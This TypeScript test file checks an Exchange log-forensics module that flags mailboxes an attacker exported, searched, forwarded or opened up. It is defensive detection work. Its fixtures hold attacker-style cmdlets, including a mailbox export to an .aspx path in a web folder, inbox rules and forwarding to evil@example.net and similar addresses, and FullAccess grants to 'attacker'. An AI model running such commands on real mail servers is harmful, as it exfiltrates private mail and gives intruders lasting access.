import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding, MailboxTouch, SourceKind, TimelineEntry } from '../core/types.js';
import { findMailboxes, findMailMovements, forwardingAddresses } from './mailboxes.js';
import { aLogFile, aSession } from './test-helpers/findings.js';

let line = 0;
function entry(source: SourceKind, fields: Record<string, string>, over: Partial<TimelineEntry> = {}): TimelineEntry {
  line += 1;
  return {
    time: '2021-03-03T02:00:00Z',
    server: 'EX01',
    source,
    origin: { path: `EX01/${source}.log`, line, offset: 0 },
    kind: 'activity',
    summary: 'record',
    fields,
    ...over,
  };
}

const cmdlet = (text: string, over: Partial<TimelineEntry> = {}): TimelineEntry => {
  const [name = '', ...rest] = text.split(' ');
  return entry('rps-cmdlet', { Cmdlet: name, Parameters: rest.join(' ') }, over);
};

const brief = (touches: MailboxTouch[]): [string, string, string, string[]][] => touches.map((t) => [t.server, t.mailbox, t.level, t.how]);

void test('cmdlets that copy a mailbox out, search it, forward it or open it to another account are each read at their level', () => {
  const touches = findMailboxes(
    [],
    [
      aSession('S1', [
        cmdlet('New-MailboxExportRequest -Mailbox "Jane.Doe@corp.je" -FilePath \\\\ex01\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx'),
        cmdlet('New-MailboxExportRequest -Mailbox ceo@corp.je'),
        cmdlet("Search-Mailbox -Identity 'hr@corp.je' -TargetMailbox attacker@corp.je -TargetFolder x"),
        cmdlet('Search-Mailbox -Identity: legal@corp.je -SearchQuery password'),
        cmdlet('New-InboxRule -Mailbox finance@corp.je -Name x -ForwardTo evil@example.net'),
        cmdlet('Set-InboxRule -Mailbox payroll@corp.je -Identity y -RedirectTo SMTP:Other@Example.net'),
        cmdlet('New-InboxRule -Mailbox it@corp.je -Name z -ForwardAsAttachmentTo third@example.net'),
        cmdlet('Set-InboxRule -Mailbox sales@corp.je -MarkAsRead $true'),
        cmdlet('Set-Mailbox -Identity board@corp.je -ForwardingSmtpAddress smtp:fwd@example.net'),
        cmdlet('Set-Mailbox -Identity chair@corp.je -ForwardingAddress contact1'),
        cmdlet('Set-Mailbox -Identity undo@corp.je -ForwardingSmtpAddress $null'),
        cmdlet('Set-Mailbox -Identity quota@corp.je -ProhibitSendQuota 1GB'),
        cmdlet('Add-MailboxPermission -Identity ops@corp.je -User attacker -AccessRights FullAccess'),
        cmdlet('Add-MailboxPermission -Identity audit@corp.je -AccessRights FullAccess'),
        cmdlet('Get-Mailbox -Identity ignored@corp.je'),
        entry('ecp-server', { CMD: 'Set-Mailbox -Identity "ecp@corp.je" -ForwardingSmtpAddress "out@example.net"' }),
      ]),
    ],
    [],
  );
  assert.deepEqual(brief(touches), [
    ['EX01', 'board@corp.je', 'exported', ['mail forwarded to smtp:fwd@example.net (Set-Mailbox)']],
    ['EX01', 'ceo@corp.je', 'exported', ['exported by New-MailboxExportRequest to a file']],
    ['EX01', 'chair@corp.je', 'exported', ['mail forwarded to contact1 (Set-Mailbox)']],
    ['EX01', 'ecp@corp.je', 'exported', ['mail forwarded to out@example.net (Set-Mailbox)']],
    ['EX01', 'finance@corp.je', 'exported', ['inbox rule forwards its mail to evil@example.net']],
    ['EX01', 'hr@corp.je', 'exported', ['searched by Search-Mailbox, results copied to attacker@corp.je']],
    ['EX01', 'it@corp.je', 'exported', ['inbox rule forwards its mail to third@example.net']],
    ['EX01', 'jane.doe@corp.je', 'exported', ['exported by New-MailboxExportRequest to \\\\ex01\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx']],
    ['EX01', 'payroll@corp.je', 'exported', ['inbox rule forwards its mail to SMTP:Other@Example.net']],
    ['EX01', 'legal@corp.je', 'read', ['searched by Search-Mailbox']],
    ['EX01', 'audit@corp.je', 'reachable', ['permission granted to another account (Add-MailboxPermission)']],
    ['EX01', 'ops@corp.je', 'reachable', ['permission granted to attacker (Add-MailboxPermission)']],
    ['EX01', 'sales@corp.je', 'reachable', ['inbox rule set on it']],
  ]);
  assert.deepEqual(forwardingAddresses(touches), [
    'contact1',
    'evil@example.net',
    'fwd@example.net',
    'other@example.net',
    'out@example.net',
    'third@example.net',
  ]);
});

void test("Exchange's own identities and names that are no person's mailbox are left out", () => {
  const names = [
    '-',
    'ServerInfo~a]@corp.je',
    'Server~EX01',
    'HealthMailbox0123abc@corp.je',
    'CORP\\EX01$',
    'SYSTEM',
    'NT AUTHORITY\\SYSTEM',
    'S-1-5-18',
    'SM_0123456789@corp.je',
    'SystemMailbox{1f05a927}@corp.je',
    'FederatedEmail.4c1f4d8b@corp.je',
    'Migration.8f3e7716@corp.je',
    'PUID:1234@corp.je',
    'a~b@corp.je',
    '""',
  ];
  const touches = findMailboxes([], [aSession('S1', [...names.map((n) => entry('ews', { SoapAction: 'GetItem', AuthenticatedUser: n }))])], []);
  assert.deepEqual(brief(touches), []);
  const kept = findMailboxes(
    [],
    [
      aSession('S1', [
        entry('ews', { SoapAction: 'GetItem', AuthenticatedUser: 'Smtp~Kept@corp.je' }),
        entry('ews', { SoapAction: 'GetItem', AuthenticatedUser: ' sip:voice@corp.je ' }),
        entry('ews', { SoapAction: 'GetItem', AuthenticatedUser: 'sysadmin@corp.je' }),
      ]),
    ],
    [],
  );
  assert.deepEqual(
    kept.map((t) => t.mailbox),
    ['kept@corp.je', 'sysadmin@corp.je', 'voice@corp.je'],
  );
});

void test('EWS and OWA requests read, export or only reach a mailbox; the impersonated user is the mailbox', () => {
  const touches = findMailboxes(
    [],
    [
      aSession('S1', [
        entry('ews', { SoapAction: 'ExportItems', ImpersonatedUser: 'a@corp.je', AuthenticatedUser: 'svc@corp.je' }),
        entry('ews', { SoapAction: 'FindItem', AuthenticatedUser: 'b@corp.je' }),
        entry('ews', { SoapAction: 'GetFolder', AuthenticatedUser: 'c@corp.je' }),
        entry('ews', { AuthenticatedUser: 'd@corp.je' }),
        entry('ews', { SoapAction: 'GetItem' }),
        entry('httpproxy', { Protocol: 'Owa', AnchorMailbox: 'SMTP:e@corp.je', UrlQuery: 'action=GetItem&id=1' }),
        entry('httpproxy', { Protocol: 'Owa', AnchorMailbox: 'f@corp.je', UrlQuery: 'x=1&action=GetAttachmentDetails' }),
        entry('httpproxy', { Protocol: 'Mapi', AuthenticatedUser: 'g@corp.je' }),
        entry('httpproxy', { Protocol: 'Rpc', UrlStem: '/MAPI/emsmdb', AnchorMailbox: 'h@corp.je' }),
        entry('httpproxy', { AnchorMailbox: 'i@corp.je' }),
        entry('httpproxy', { Protocol: 'Ecp' }),
        entry('iis', { AnchorMailbox: 'j@corp.je', AuthenticatedUser: 'j@corp.je' }),
      ]),
    ],
    [],
  );
  assert.deepEqual(brief(touches), [
    ['EX01', 'a@corp.je', 'exported', ['items exported through EWS ExportItems']],
    ['EX01', 'b@corp.je', 'read', ['items read through EWS FindItem']],
    ['EX01', 'e@corp.je', 'read', ['items read through OWA']],
    ['EX01', 'g@corp.je', 'read', ['mailbox opened over MAPI (Outlook protocol)']],
    ['EX01', 'h@corp.je', 'read', ['mailbox opened over MAPI (Outlook protocol)']],
    ['EX01', 'c@corp.je', 'reachable', ['EWS GetFolder as the mailbox']],
    ['EX01', 'd@corp.je', 'reachable', ['EWS request as the mailbox']],
    ['EX01', 'f@corp.je', 'reachable', ['Owa requests routed to the mailbox']],
    ['EX01', 'i@corp.je', 'reachable', ['HTTP requests routed to the mailbox']],
  ]);
});

void test('a mailbox named twice is one entry: its highest level, its first and last times, each way and each line once', () => {
  const same = entry('ews', { SoapAction: 'GetFolder', AuthenticatedUser: 'a@corp.je' }, { time: '2021-03-03T05:00:00Z' });
  const touches = findMailboxes(
    [],
    [
      aSession('S1', [
        same,
        { ...same },
        entry('ews', { SoapAction: 'GetItem', AuthenticatedUser: 'A@corp.je' }, { time: '2021-03-03T03:00:00Z' }),
        entry('ews', { SoapAction: 'GetFolder', AuthenticatedUser: 'a@corp.je' }, { time: undefined }),
        entry('ews', { SoapAction: 'GetFolder', AuthenticatedUser: 'a@corp.je' }, { time: '2021-03-03T04:00:00Z' }),
        entry('ews', { SoapAction: 'GetItem', AuthenticatedUser: 'a@corp.je' }, { server: 'EX02', time: undefined }),
      ]),
      aSession('S1', [entry('ews', { SoapAction: 'GetFolder', AuthenticatedUser: 'a@corp.je' }, { time: '2021-03-03T06:00:00Z' })]),
    ],
    [],
  );
  assert.deepEqual(
    touches.map((t) => [t.server, t.level, t.firstTime, t.lastTime, t.how, t.evidence.length]),
    [
      ['EX01', 'read', '2021-03-03T03:00:00Z', '2021-03-03T06:00:00Z', ['EWS GetFolder as the mailbox', 'items read through EWS GetItem'], 5],
      ['EX02', 'read', undefined, undefined, ['items read through EWS GetItem'], 1],
    ],
  );
  const many = findMailboxes(
    [],
    [aSession('S1', [...Array.from({ length: 60 }, () => entry('ews', { SoapAction: 'GetItem', AuthenticatedUser: 'a@corp.je' }))])],
    [],
  );
  assert.equal(many[0]?.evidence.length, 50);
});

void test('a file that is a mailbox export counts as an unnamed mailbox; every mailbox is in reach from the earliest success', () => {
  const base = {
    cves: [],
    severity: 'high' as const,
    server: 'EX01',
    clientIp: undefined,
    user: undefined,
    origin: { path: 'EX01/HttpProxy/Owa/x.log', line: 1, offset: 0 },
  };
  const findings: Finding[] = [
    {
      ...base,
      ruleId: 'pst',
      title: 'a PST in a web folder',
      stage: 'exploited',
      time: undefined,
      fields: { mailbox: 'exported', path: 'aspnet_client/x.aspx' },
    },
    { ...base, ruleId: 'pst2', title: 'another', stage: 'probe', time: undefined, fields: { mailbox: 'exported' }, benign: 'a scanner' },
    { ...base, ruleId: 'odd', title: 'odd', stage: 'probe', time: undefined, fields: { mailbox: 'copied' } },
    { ...base, ruleId: 'late', title: 'late', stage: 'exploited', time: '2021-03-04T00:00:00Z', fields: {} },
    { ...base, ruleId: 'early', title: 'the 241 answer', stage: 'post-exploitation', time: '2021-03-03T00:00:00Z', fields: {} },
    { ...base, ruleId: 'capped', title: 'capped', stage: 'exploited', time: '2021-03-01T00:00:00Z', fields: {}, cappedBy: 'x' },
    { ...base, ruleId: 'scan', title: 'scan', stage: 'exploited', time: '2021-03-01T00:00:00Z', fields: {}, benign: 'x' },
    { ...base, ruleId: 'try', title: 'try', stage: 'exploit-attempt', time: '2021-03-01T00:00:00Z', fields: {} },
  ];
  // Nothing shows Exchange on EX01 until its HttpProxy log is in the evidence.
  assert.deepEqual(
    findMailboxes(findings, [], []).map((t) => t.mailbox),
    ['(a mailbox not named in the evidence)'],
  );
  const touches = findMailboxes(findings, [], [aLogFile('EX01', { path: 'EX01/HttpProxy/Owa/x.log' })]);
  assert.deepEqual(brief(touches), [
    ['EX01', '(a mailbox not named in the evidence)', 'exported', ['a PST in a web folder: aspnet_client/x.aspx']],
    ['EX01', '*', 'reachable', ["every mailbox on EX01 was within the attacker's reach from 00:00 UTC on 3 March 2021, shown by the 241 answer"]],
  ]);
});

void test('mail the attacker sent or had forwarded is listed once, earliest first, with why', () => {
  const forwarded: MailboxTouch[] = [
    {
      mailbox: 'a@corp.je',
      server: 'EX01',
      level: 'exported',
      firstTime: undefined,
      lastTime: undefined,
      how: [],
      evidence: [],
      forwardedTo: ['evil@example.net'],
    },
  ];
  const sent = entry(
    'msgtrk',
    { 'event-id': 'SEND', 'sender-address': 'x@corp.je', 'recipient-address': 'someone@example.org', 'message-subject': 'invoice' },
    { time: '2021-03-03T05:00:00Z', clientIp: '203.0.113.9' },
  );
  const toEvil = entry('msgtrk', { 'recipient-address': 'EVIL@example.net;b@corp.je' }, { time: '2021-03-03T04:00:00Z' });
  const noTime = entry('msgtrk', {}, { time: undefined });
  const movements = findMailMovements([aSession('S1', [sent, entry('iis', {}), toEvil])], forwarded, [toEvil, noTime]);
  assert.deepEqual(
    movements.map((m) => [m.time, m.event, m.sender, m.recipients, m.subject, m.why]),
    [
      [undefined, '', '', '', '', "sent from the attacker's address"],
      ['2021-03-03T04:00:00Z', '', '', 'EVIL@example.net;b@corp.je', '', 'sent to evil@example.net, where the attacker had mail forwarded'],
      ['2021-03-03T05:00:00Z', 'SEND', 'x@corp.je', 'someone@example.org', 'invoice', "sent from the attacker's address 203.0.113.9"],
    ],
  );
});

void test('each EWS and OWA action that reads items is read, in any case; a longer name that only begins like one is not', () => {
  const ews = [
    'GetItem',
    'finditem',
    'GetAttachment',
    'SyncFolderItems',
    'FindConversation',
    'GetConversationItems',
    'ExpandDL',
    'ResolveNames',
    'FindPeople',
    'GetItemX',
    'XGetItem',
    'exportitems',
    'ExportItemsNow',
  ];
  const owa = [
    'GetItem',
    'FindItem',
    'getattachment',
    'GetFileAttachment',
    'GetConversationItems',
    'FindConversation',
    'GetMailFolderItems',
    'GetItems',
    'XGetItem',
  ];
  const touches = findMailboxes(
    [],
    [
      aSession('S1', [
        ...ews.map((action, i) => entry('ews', { SoapAction: action, AuthenticatedUser: `ews${String(i).padStart(2, '0')}@corp.je` })),
        ...owa.map((action, i) => entry('httpproxy', { Protocol: 'OWA', UrlQuery: `id=1&action=${action}`, AnchorMailbox: `owa${i}@corp.je` })),
        entry('httpproxy', { Protocol: 'OWA', UrlQuery: 'action=GetItem', AnchorMailbox: 'first@corp.je' }),
        entry('httpproxy', { Protocol: 'OWA', UrlQuery: 'xaction=GetItem', AnchorMailbox: 'prefixed@corp.je' }),
      ]),
    ],
    [],
  );
  const level = Object.fromEntries(touches.map((t) => [t.mailbox, t.level]));
  assert.deepEqual(
    ews.map((_, i) => level[`ews${String(i).padStart(2, '0')}@corp.je`]),
    ['read', 'read', 'read', 'read', 'read', 'read', 'read', 'read', 'read', 'reachable', 'reachable', 'exported', 'reachable'],
  );
  assert.deepEqual(
    owa.map((_, i) => level[`owa${i}@corp.je`]),
    ['read', 'read', 'read', 'read', 'read', 'read', 'read', 'reachable', 'reachable'],
  );
  assert.equal(level['first@corp.je'], 'read');
  assert.equal(level['prefixed@corp.je'], 'reachable');
});

void test("a cmdlet's parameter is read quoted, single-quoted, bare or after a colon, and only by its own name", () => {
  const touches = findMailboxes(
    [],
    [
      aSession('S1', [
        cmdlet('New-MailboxExportRequest -Mailbox "Two Words" -FilePath "C:\\a b\\x.pst"'),
        cmdlet("New-MailboxExportRequest -mailbox: 'quoted@corp.je' -FilePath:x.pst"),
        cmdlet('New-MailboxExportRequest -SourceMailbox other@corp.je'),
        entry('ecp-server', { CMD: 'new-mailboxexportrequest -Mailbox ecp-export@corp.je' }),
        entry('ecp-server', { CMD: '"Set-Mailbox" -Identity not-a-cmdlet@corp.je -ForwardingAddress x' }),
      ]),
    ],
    [],
  );
  assert.deepEqual(brief(touches), [
    ['EX01', 'ecp-export@corp.je', 'exported', ['exported by New-MailboxExportRequest to a file']],
    ['EX01', 'quoted@corp.je', 'exported', ['exported by New-MailboxExportRequest to x.pst']],
    ['EX01', 'two words', 'exported', ['exported by New-MailboxExportRequest to C:\\a b\\x.pst']],
  ]);
});
